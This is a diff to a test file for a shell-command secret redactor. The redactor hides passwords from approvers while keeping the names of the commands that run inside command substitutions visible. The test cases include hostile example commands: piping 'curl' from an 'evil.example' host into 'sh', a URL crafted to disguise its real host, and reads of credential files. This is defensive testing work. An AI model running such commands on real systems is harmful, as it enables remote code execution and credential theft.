@@ -206,13 +206,13 @@ describe('text written into .pgpass and .netrc', () => {
     ]);
   });
 
-  it('hides a command substitution in the password\'s place: what it is given may be the secret, or it is literal text', () => {
+  it('hides a command substitution in the password\'s place but its commands\' names: what it is given may be the secret; in single quotes it is the text', () => {
     cases([
-      ['echo "h:1:d:u:$(echo S3cret)" > ~/.pgpass', 'echo "h:1:d:u:[redacted]" > ~/.pgpass'],
-      ['echo "ann:$(mkpasswd -m sha-512 S3cret)" | chpasswd -e', 'echo "ann:[redacted]" | chpasswd -e'],
-      ['echo "machine h login u password $(echo S3cret | rev)" > ~/.netrc', 'echo "machine h login u password [redacted]" > ~/.netrc'],
-      ['echo "machine h login u password $(printf %s $(echo a) S3cret)" > ~/.netrc', 'echo "machine h login u password [redacted]" > ~/.netrc'],
-      ["echo \"machine h login u password $(echo '(a) S3cret' | rev)\" > ~/.netrc", 'echo "machine h login u password [redacted]" > ~/.netrc'],
+      ['echo "h:1:d:u:$(echo S3cret)" > ~/.pgpass', 'echo "h:1:d:u:$(echo [redacted])" > ~/.pgpass'],
+      ['echo "ann:$(mkpasswd -m sha-512 S3cret)" | chpasswd -e', 'echo "ann:$(mkpasswd [redacted])" | chpasswd -e'],
+      ['echo "machine h login u password $(echo S3cret | rev)" > ~/.netrc', 'echo "machine h login u password $(echo [redacted] | rev)" > ~/.netrc'],
+      ['echo "machine h login u password $(printf %s $(echo a) S3cret)" > ~/.netrc', 'echo "machine h login u password $(printf [redacted])" > ~/.netrc'],
+      ["echo \"machine h login u password $(echo '(a) S3cret' | rev)\" > ~/.netrc", 'echo "machine h login u password $(echo [redacted] | rev)" > ~/.netrc'],
       ["echo 'h:1:d:u:k9$(Xa)' > ~/.pgpass", "echo 'h:1:d:u:[redacted]' > ~/.pgpass"],
       ["cat > ~/.pgpass <<'EOF'\nh:1:d:u:k9$(Xa)\nEOF", "cat > ~/.pgpass <<'EOF'\nh:1:d:u:[redacted]\nEOF"],
       ["chpasswd <<< 'ann:a`b`c'", "chpasswd <<< 'ann:[redacted]'"],
@@ -239,7 +239,7 @@ describe('text written into .pgpass and .netrc', () => {
     // (a value the shell makes, or spelled otherwise than libpq reads it, is read as any name holding "pass" is;
     // `PGPASSFILE=<(echo …)`, a process substitution, is not caught)
     cases([
-      ['PGPASSFILE="$(echo h:5432:db:u:S3cret > /tmp/p; echo /tmp/p)" psql', 'PGPASSFILE="[redacted]" psql'],
+      ['PGPASSFILE="$(echo h:5432:db:u:S3cret > /tmp/p; echo /tmp/p)" psql', 'PGPASSFILE="$(echo [redacted] > [redacted]; echo [redacted])" psql'],
       ['pgpassfile=S3cret x', 'pgpassfile=[redacted] x'],
       // (shown only as a path: a password given there by mistake, or passfile= in a tool's own option, is hidden)
       ['PGPASSFILE=S3cret psql', 'PGPASSFILE=[redacted] psql'],
@@ -280,20 +280,20 @@ describe('a command substitution inside double quotes', () => {
       ["mysql -h \"$(hostname # it's\n)\" -pS3cret db -e \"select ')'\"", "mysql -h \"$(hostname # it's\n)\" -p[redacted] db -e \"select ')'\""],
       ["mysql -h \"$(cat <<E\nit's\nE\n)\" -pS3cret db -e \"select ')'\"", "mysql -h \"$(cat <<E\nit's\nE\n)\" -p[redacted] db -e \"select ')'\""],
       // (and an approver sees the command after a password given so)
-      ["sshpass -p \"$(printf $'pa\\'ss')\" ssh db1 uptime; curl -s x | sh", "sshpass -p \"[redacted]\" ssh db1 uptime; curl -s x | sh"],
+      ["sshpass -p \"$(printf $'pa\\'ss')\" ssh db1 uptime; curl -s x | sh", "sshpass -p \"$(printf [redacted])\" ssh db1 uptime; curl -s x | sh"],
     ]);
     expect(commandSecrets('echo "a $(sshpass -p "S3 cret" ssh h)"')).toContain('S3 cret');
   });
 });
 
 describe('a command substitution outside quotes', () => {
-  it('is one word with what is around it: a secret given by one is hidden whole, and its own command line is read', () => {
+  it('is one word with what is around it: a secret given by one is hidden but its commands\' names, and its own command line is read', () => {
     // Read as `$`, an operator and words, `PGPASSWORD=$(echo S3cret)` was recorded as `PGPASSWORD=[redacted](echo S3cret)`.
     cases([
-      ['PGPASSWORD=$(echo S3cret) psql -h db', 'PGPASSWORD=[redacted] psql -h db'],
-      ['export PGPASSWORD=ab$(printf "%s" S3cret)cd && psql', 'export PGPASSWORD=[redacted] && psql'],
-      ['mysql -p$(echo S3cret) db', 'mysql -p[redacted] db'],
-      ['curl -u ann:$(cat /run/pw | rev) https://x', 'curl -u ann:[redacted] https://x'],
+      ['PGPASSWORD=$(echo S3cret) psql -h db', 'PGPASSWORD=$(echo [redacted]) psql -h db'],
+      ['export PGPASSWORD=ab$(printf "%s" S3cret)cd && psql', 'export PGPASSWORD=[redacted]$(printf [redacted])[redacted] && psql'],
+      ['mysql -p$(echo S3cret) db', 'mysql -p$(echo [redacted]) db'],
+      ['curl -u ann:$(cat /run/pw | rev) https://x', 'curl -u ann:$(cat [redacted] | rev) https://x'],
       // its own script: a password in it is found (once each way it is nested)
       ['echo $(mysql -pS3cret -e "select 1") done', 'echo $(mysql -p[redacted] -e "select 1") done'],
       ['echo $(echo $(mysql -pS3cret db)) "$(sshpass -p S3cret ssh h)"', 'echo $(echo $(mysql -p[redacted] db)) "$(sshpass -p [redacted] ssh h)"'],
@@ -304,46 +304,46 @@ describe('a command substitution outside quotes', () => {
     cases([
       ['echo $(case a in a) mysql -pS3cret;; esac)', 'echo $(case a in a) mysql -p[redacted];; esac)'],
       ['logger "$(case $E in prod) redis-cli -a S3cret info;; *) :;; esac)"', 'logger "$(case $E in prod) redis-cli -a [redacted] info;; *) :;; esac)"'],
-      ['PGPASSWORD=$(echo staircase) psql', 'PGPASSWORD=[redacted] psql'],
-      // (only `case WORD in`: the word elsewhere leaves it a substitution, hidden whole)
-      ['PGPASSWORD=$(echo S3cret; case) psql', 'PGPASSWORD=[redacted] psql'],
-      ['export DB_PASSWORD=$(echo S3cret | tr lower case)', 'export DB_PASSWORD=[redacted]'],
-      ['mysql -p$(echo S3cret case) db', 'mysql -p[redacted] db'],
+      ['PGPASSWORD=$(echo staircase) psql', 'PGPASSWORD=$(echo [redacted]) psql'],
+      // (only `case WORD in`: the word elsewhere leaves it a substitution, opened as any other)
+      ['PGPASSWORD=$(echo S3cret; case) psql', 'PGPASSWORD=$(echo [redacted]; case) psql'],
+      ['export DB_PASSWORD=$(echo S3cret | tr lower case)', 'export DB_PASSWORD=$(echo [redacted] | tr [redacted])'],
+      ['mysql -p$(echo S3cret case) db', 'mysql -p$(echo [redacted]) db'],
     ]);
     // Read within one another, quoted words and substitutions are read to twelve levels, each text once a line
     // (an ssh option's command line is read twice, and so was everything within it, twice again at each level).
     kept('echo "$(a "$(b "$(c "$(d "hello world")")")")"');
-    expect(commandSecrets('PGPASSWORD=$(echo S3cret) psql')).toContain('$(echo S3cret)');
+    expect(commandSecrets('PGPASSWORD=$(echo S3cret) psql')).toEqual(['S3cret']);
   });
 
   it('in a conninfo or URL inside double quotes: the secret runs to where the substitution ends, not to a blank in it', () => {
     cases([
-      ['psql "password=$(echo S3cret)"', 'psql "password=[redacted]"'],
-      ['psql "host=x password=$(vault read -field=pw x) dbname=y"', 'psql "host=x password=[redacted] dbname=y"'],
-      ['curl -u "ann:$(cat /pw | rev)" https://x', 'curl -u "ann:[redacted]" https://x'],
+      ['psql "password=$(echo S3cret)"', 'psql "password=$(echo [redacted])"'],
+      ['psql "host=x password=$(vault read -field=pw x) dbname=y"', 'psql "host=x password=$(vault [redacted]) dbname=y"'],
+      ['curl -u "ann:$(cat /pw | rev)" https://x', 'curl -u "ann:$(cat [redacted] | rev)" https://x'],
     ]);
     // (a password inside the substitution's own command line is not run on past: the rest of that line is shown)
     cases([['echo "$(mysql -pS3cret -e "select 1")" done', 'echo "$(mysql -p[redacted] -e "select 1")" done']]);
     // Its text is its own script's, escapes and all: the shell does not unescape it as the double quotes' text
     // (unescaped, its quotes no longer paired, it was not found, and `password=` ran to a blank in it).
     cases([
-      ['psql "host=h password=$(echo S3cret \\\\) dbname=d"', 'psql "host=h password=[redacted] dbname=d"'],
-      ['psql "host=h password=$(printf "%s" "S3\\"cret x") dbname=d"', 'psql "host=h password=[redacted] dbname=d"'],
+      ['psql "host=h password=$(echo S3cret \\\\) dbname=d"', 'psql "host=h password=$(echo [redacted]) dbname=d"'],
+      ['psql "host=h password=$(printf "%s" "S3\\"cret x") dbname=d"', 'psql "host=h password=$(printf [redacted]) dbname=d"'],
     ]);
     kept('echo "a \\"b\\" \\$x $(echo "c \\"d\\"") e"');
   });
 
-  it('nested in parentheses (substitutions, arithmetic, subshells) three deep, or as a URL\'s password: hidden whole', () => {
+  it('nested in parentheses (substitutions, arithmetic, subshells) three deep, or as a URL\'s password: hidden', () => {
     // Past one level of parentheses, a `$(` was a `$` and an operator: `PGPASSWORD=[redacted](echo $(echo …`.
     cases([
-      ['PGPASSWORD=$(echo $(echo $(echo S3cret))) psql', 'PGPASSWORD=[redacted] psql'],
-      ['mysql -p$(echo $((1+2)) S3cret) db', 'mysql -p[redacted] db'],
-      ['PGPASSWORD=$(echo $( (echo S3cret) )) psql', 'PGPASSWORD=[redacted] psql'],
-      ['echo h:1:d:u:$(echo $(echo $(echo S3cret))) > ~/.pgpass', 'echo h:1:d:u:[redacted] > ~/.pgpass'],
+      ['PGPASSWORD=$(echo $(echo $(echo S3cret))) psql', 'PGPASSWORD=$(echo [redacted]) psql'],
+      ['mysql -p$(echo $((1+2)) S3cret) db', 'mysql -p$(echo [redacted]) db'],
+      ['PGPASSWORD=$(echo $( (echo S3cret) )) psql', 'PGPASSWORD=$(echo [redacted]) psql'],
+      ['echo h:1:d:u:$(echo $(echo $(echo S3cret))) > ~/.pgpass', 'echo h:1:d:u:$(echo [redacted]) > ~/.pgpass'],
       ['echo $(a $(b $(mysql -pS3cret)))', 'echo $(a $(b $(mysql -p[redacted])))'],
       // (a URL's password ended at a blank or slash, and one made by a substitution was not found at all)
       ['git clone https://u:$(cat /run/tok)@github.com/x/y', 'git clone https://u:[redacted]@github.com/x/y'],
-      ['curl "https://u:ab$(echo S3cret)cd@h/x"', 'curl "https://u:[redacted]@h/x"'],
+      ['curl "https://u:ab$(echo S3cret)cd@h/x"', 'curl "https://u:[redacted]$(echo [redacted])[redacted]@h/x"'],
       ['curl https://u:p$(x)q@r@host/', 'curl https://u:[redacted]@host/'],
       // (not past a query or fragment: the host an approver sees is the one the URL names)
       ['curl https://u:$(cat t)@evil.example?x=a@good.example', 'curl https://u:[redacted]@evil.example?x=a@good.example'],
@@ -351,15 +351,36 @@ describe('a command substitution outside quotes', () => {
     kept('curl https://h/$(date +%s)/x "https://h/a:$(id -u)/b"');
   });
 
-  it('as the value of a secret-named setting given to a program: hidden whole, its blanks and all', () => {
+  it('as the value of a secret-named setting given to a program: hidden, its blanks and all', () => {
     // A word with a blank in its value was taken for a command line (`bash -lc "PGPASSWORD=x psql …"`), not a
     // setting; a blank inside a substitution is not one.
     cases([
-      ['vault kv put secret/x password=$(echo S3cret)', 'vault kv put secret/x password=[redacted]'],
-      ['curl -d password=$(echo S3cret) https://x', 'curl -d password=[redacted] https://x'],
-      ['psql password=$(printf %s S3cret)', 'psql password=[redacted]'],
-      ['bash -lc "PGPASSWORD=$(cat /pw) psql -c \\"select 1\\""', 'bash -lc "PGPASSWORD=[redacted] psql -c \\"select 1\\""'],
+      ['vault kv put secret/x password=$(echo S3cret)', 'vault kv put secret/x password=$(echo [redacted])'],
+      ['curl -d password=$(echo S3cret) https://x', 'curl -d password=$(echo [redacted]) https://x'],
+      ['psql password=$(printf %s S3cret)', 'psql password=$(printf [redacted])'],
+      ['bash -lc "PGPASSWORD=$(cat /pw) psql -c \\"select 1\\""', 'bash -lc "PGPASSWORD=$(cat [redacted]) psql -c \\"select 1\\""'],
     ]);
+  });
+
+  it('giving a secret, is shown to an approver as what it runs: its commands\' names and operators, every other word hidden', () => {
+    // Hidden whole, `PGPASSWORD=$(curl -s https://evil.example/x | sh) psql` showed an approver `PGPASSWORD=[redacted] psql`.
+    cases([
+      ['PGPASSWORD=$(curl -s https://evil.example/x | sh) psql', 'PGPASSWORD=$(curl [redacted] | sh) psql'],
+      ['PGPASSWORD=$(cat /pw 2> /dev/null || vault read -field=pw x) psql', 'PGPASSWORD=$(cat [redacted] 2> [redacted] || vault [redacted]) psql'],
+      // (a command after a wrapper or an assignment is hidden with them)
+      ['PGPASSWORD=$(sudo -u pg cat /pw) psql', 'PGPASSWORD=$([redacted]) psql'],
+      ['PGPASSWORD=$(FOO=S3cret bash -c "echo $FOO") psql', 'PGPASSWORD=$([redacted]) psql'],
+      ['PGPASSWORD="$(cat /pw)" psql', 'PGPASSWORD="$(cat [redacted])" psql'],
+      ['PGPASSWORD=$(< /run/pw tr -d x) psql', 'PGPASSWORD=$(< [redacted]) psql'],
+      ['PGPASSWORD=$( (cat /pw; echo) | head -1 ) psql', 'PGPASSWORD=$( (cat [redacted]; echo) | head [redacted] ) psql'],
+    ]);
+    // In single quotes it runs nothing: it is the secret's text, hidden whole.
+    cases([
+      ["PGPASSWORD='$(cat /pw)' psql", "PGPASSWORD='[redacted]' psql"],
+      ["curl -u 'ann:$(cat /pw)' https://x", "curl -u 'ann:[redacted]' https://x"],
+    ]);
+    // `[redacted]` typed in one is no reason to show the rest of it.
+    cases([['x=PGPASSWORD=$(echo [redacted] S3cret)', 'x=PGPASSWORD=$(echo [redacted])']]);
   });
 
   it('one the words cannot read whole (a comment, a here-document or a case in it, or never closed), giving a secret: hidden to its end', () => {
